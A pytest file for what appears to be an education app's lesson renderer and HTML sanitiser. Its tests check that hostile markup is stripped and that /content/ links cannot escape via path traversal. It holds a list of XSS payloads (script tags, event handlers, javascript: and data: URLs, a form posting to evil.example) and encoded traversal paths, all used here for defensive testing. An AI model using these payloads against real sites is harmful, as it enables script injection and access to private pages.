"""The lesson renderer and sanitiser: hostile HTML and script links never survive, ordinary
markup does, narration reads words not markup, and ``/content/`` links and images stay inside
the pack: no dot segments (plain or percent-encoded), empty segments or backslashes that would
climb out of ``/content/`` to the county's own pages or API."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from xuedian.packs.render import plain_text, render_lesson, sanitise


def _tags(html: str) -> list[tuple[str, dict]]:
    """Return every element the browser would build from ``html``."""
    found = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    Collector().feed(html)
    return found


HOSTILE = [
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src='https://example.org'></iframe>",
    "<div><p style='position:fixed'>raw html</p></div>",
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    "[file](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![remote](https://tracker.example/pixel.png)",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<style>body{display:none}</style>",
    "<form action='https://evil.example'><input name=pw></form>",
]


def _assert_harmless(html: str) -> None:
    tags = _tags(html)
    assert {name for name, _ in tags} <= {"p", "a", "img"}, html
    for name, attrs in tags:
        assert not [a for a in attrs if a.startswith("on") or a == "style"], html
        for attr in ("href", "src"):
            value = (attrs.get(attr) or "").lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), html
        if name == "img":
            assert (attrs.get("src") or "/content/").startswith("/content/"), html
    assert "<script" not in html
    assert "alert(1)</script>" not in html or "&lt;script&gt;" in html


@pytest.mark.parametrize("hostile", HOSTILE)
def test_render_lesson_strips_scripts_and_handlers(hostile):
    _assert_harmless(render_lesson(f"text\n\n{hostile}\n"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_sanitise_strips_hostile_html_even_if_markdown_let_it_through(hostile):
    html = sanitise(f"<p>text</p>{hostile}")
    _assert_harmless(html)
    assert "alert(1)</script>" not in html
    assert "body{display:none}" not in html


def test_render_lesson_escapes_raw_html_as_text():
    html = render_lesson("<b onclick='x()'>bold</b> <iframe src=x></iframe>")
    assert _tags(html) == [("p", {})]
    assert "&lt;b onclick" in html


def test_render_lesson_keeps_ordinary_markup():
    html = render_lesson("# 标题\n\n**粗体** and ![图](/content/p/1/media/a.webp)")
    assert "<h1>标题</h1>" in html
    assert "<strong>粗体</strong>" in html
    assert '<img src="/content/p/1/media/a.webp" alt="图">' in html
    link = render_lesson("[学点](https://example.org/a)")
    assert 'href="https://example.org/a"' in link
    assert 'rel="noopener noreferrer"' in link


def test_plain_text_reads_words_not_markup():
    text = plain_text(
        "**粗体**字\n\n![图](media/a.svg)\n\n- 一\n- 二。\n\n```\ncode()\n```\n<b>x</b>"
    )
    assert text == "粗体字。\n一。\n二。\nx。"


@pytest.mark.parametrize(
    "url",
    [
        "/content/../api/v1/devices",
        "/content/p/1/../../../staff/people",
        "/content/%2e%2e/staff",
        "/content/p/%2E%2E/%2e%2e/x",
        "/content/./p",
        "/content//evil.example/x",
        "/content/p\\..\\..\\staff",
    ],
)
def test_sanitise_keeps_content_links_inside_the_pack(url):
    html = sanitise(f'<p><img src="{url}" alt="x"><a href="{url}">x</a></p>')
    for _, attrs in _tags(html):
        assert "src" not in attrs and "href" not in attrs, html
    inside = sanitise('<p><img src="/content/p/1/media/a.webp"><a href="/content/p/1/b">b</a></p>')
    assert inside.count("/content/p/1/") == 2
